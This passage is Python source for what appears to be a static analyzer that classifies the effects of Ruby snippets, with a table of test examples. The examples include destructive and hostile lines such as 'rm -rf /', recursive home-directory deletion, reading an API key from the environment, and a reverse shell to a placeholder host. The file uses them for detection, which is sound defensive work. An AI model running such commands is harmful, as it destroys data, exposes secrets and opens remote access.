            if any("w" in value or "+" in value for value in values[1:] if is_static(value)):
                self.doubt("what a command is given to read")
        elif kind == "argv":
            words = list(values)
            if self._at(at + 1).text == "{" or (
                self._at(at + 1).text == "(" and self._at(at + 2).text in ("{", "[")
            ):
                self.doubt(f"{name} with an environment")
            inner = self.tokens[at + 1 : at + 200]
            if any(token.kind == "label" or token.text == "=>" for token in inner[:60]) and name != "system":
                words = [word for word in words if word != UNKNOWN] or [UNKNOWN]
            self.out.extend(effects("argv", words, "ruby", name))
            self._shell_over_network()
        elif kind == "kernel-open":
            if first.startswith("|"):
                self.out.append(RunShell(first[1:]))
            elif "://" in first:
                self.out.append(Effect(Kind.NETWORK, first, "download"))
            elif not is_static(first):
                self.doubt("open of what is not known")
            else:
                self.out.extend(effects("open", values, "ruby", name))
        elif kind == "io-read":
            if first.startswith("|"):
                self.out.append(RunShell(first[1:]))
            elif not is_static(first[:1]):
                self.doubt("a file that may be a command")
            else:
                self.out.extend(opened(first))
        elif kind in ("deletes", "deletes-tree"):
            tokens = self.tokens[at + 1 : at + 40]
            words = [word for token in tokens[:3] if token.kind == "words" for word in token.text.split()]
            for value in words or values or [UNKNOWN]:
                self.out.append(
                    Effect(Kind.DELETE, UNKNOWN if value == MANY else value, recursive=kind == "deletes-tree")
                )
        elif kind == "mode-first":
            for value in values[1:] or [UNKNOWN]:
                self.out.append(
                    Effect(
                        Kind.MODE,
                        UNKNOWN if value == MANY else value,
                        first.lstrip("0o") or "0",
                        recursive=name.endswith("_R"),
                    )
                )
        elif kind in ("owner-first", "owner-last"):
            for value in values[2:] or [UNKNOWN]:
                self.out.append(
                    Effect(
                        Kind.OWNER, UNKNOWN if value == MANY else value, first, recursive=name.endswith("_R")
                    )
                )
        elif kind == "open":
            if name == "Logger.new" and (first == UNKNOWN):
                return
            self.out.extend(
                effects(
                    "open",
                    [
                        first,
                        *(
                            [values[1]]
                            if len(values) > 1 and values[1] != UNKNOWN
                            else [UNKNOWN]
                            if len(values) > 1
                            else []
                        ),
                    ],
                    "ruby",
                    name,
                )
            )
        elif kind == "code" and not name.endswith("eval"):
            if name in ("fork", "Process.fork") and any(
                token.text in ("loop", "while", "until") for token in self.tokens
            ):
                self.out.append(Effect(Kind.SYSTEM, "the process table", "fork bomb", force="critical"))
            else:
                self.doubt(name)
        elif kind == "code":
            self.out.extend(effects("code", [first], "ruby", name))
        else:
            self.out.extend(effects(kind, values, "ruby", name))
            if kind == "connect":
                self._shell_over_network(first)

    def _shell_over_network(self, host: str = "") -> None:
        texts = {token.text for token in self.tokens}
        if host and texts & {"exec", "spawn", "popen", "system"}:
            self.out.append(Effect(Kind.NETWORK, host, "shell"))


EXAMPLES: tuple[tuple[str, str], ...] = (
    ("puts 1 + 1", ""),
    ("puts [3, 1, 2].sort.map { |x| x * 2 }.join(',')", ""),
    ("require 'json'; puts JSON.pretty_generate(JSON.parse(STDIN.read))", ""),
    ('puts "a#{1 + 1}b"', ""),
    ("$_.gsub!(/a(.)/, 'b\\1')", ""),
    ("puts RUBY_VERSION", ""),
    ("def add(a, b) a + b end; puts add(1, 2)", ""),
    ("puts File.read('a.txt')", "read a.txt"),
    ("File.write('a.txt', 'x')", "write a.txt"),
    ("File.open('a.txt', 'w') { |f| f.puts 1 }", "write a.txt"),
    ("File.delete('a', 'b')", "delete a; delete b"),
    ("require 'fileutils'; FileUtils.rm_rf('/home/user')", "delete /home/user recursive"),
    ("FileUtils.rm_rf(File.expand_path('~'))", "shell 'rm -r -- ~'"),
    ("system('rm -rf /')", "shell 'rm -rf /'"),
    ("system 'rm', '-rf', '/'", "run rm -rf /"),
    ("puts `id`", "shell 'id'"),
    ("puts %x(id)", "shell 'id'"),
    ('puts "#{`id`}"', "shell 'id'"),
    ("open('|id').read", "shell 'id'"),
    ('eval "puts 1"', "code ruby 'puts 1'"),
    ("Kernel.send(:system, 'id')", "execute Kernel inline ruby code !uncertain; execute Kernel.send inline ruby code !uncertain; execute the symbol system inline ruby code !uncertain"),
    ("['id'].each(&method(:system))", "execute method inline ruby code !uncertain; execute the symbol system inline ruby code !uncertain"),
    ("puts ENV['HOME'], ENV['API_KEY']", "secret $API_KEY"),
    ("p ENV", "secret the environment variables"),
    ("require 'evil'", "execute the library evil inline ruby code !uncertain"),
    ("require 'net/http'; puts Net::HTTP.get(URI('https://x.example'))", "network download https://x.example"),
    ("require 'socket'; s = TCPSocket.new('h.example', 4444); exec '/bin/sh'", "network connect h.example; network shell h.example; shell '/bin/sh'"),
)  # fmt: skip
